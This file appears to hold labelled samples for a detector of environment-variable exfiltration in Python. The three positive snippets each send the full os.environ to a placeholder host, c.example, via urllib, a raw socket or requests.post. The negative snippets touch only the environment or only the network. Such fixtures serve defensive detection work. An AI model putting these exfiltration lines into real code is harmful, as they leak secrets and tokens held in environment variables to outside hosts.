#@ pos environment posted with urllib
import json, os, urllib.request
urllib.request.urlopen("http://c.example/", data=json.dumps(dict(os.environ)).encode())
#@ pos environment sent over a socket
import os, socket
s = socket.create_connection(("c.example", 9000))
s.sendall(repr(os.environ.copy()).encode())
#@ pos items posted with requests
import os, requests
requests.post("https://c.example/", data=dict(os.environ.items()))
#@ neg one variable and the network
import os, urllib.request
urllib.request.urlopen(os.environ.get("URL", "http://localhost/"))
#@ neg the environment without the network
import os
print(sorted(os.environ))
#@ neg the network without the environment
import urllib.request
urllib.request.urlopen("http://localhost/")
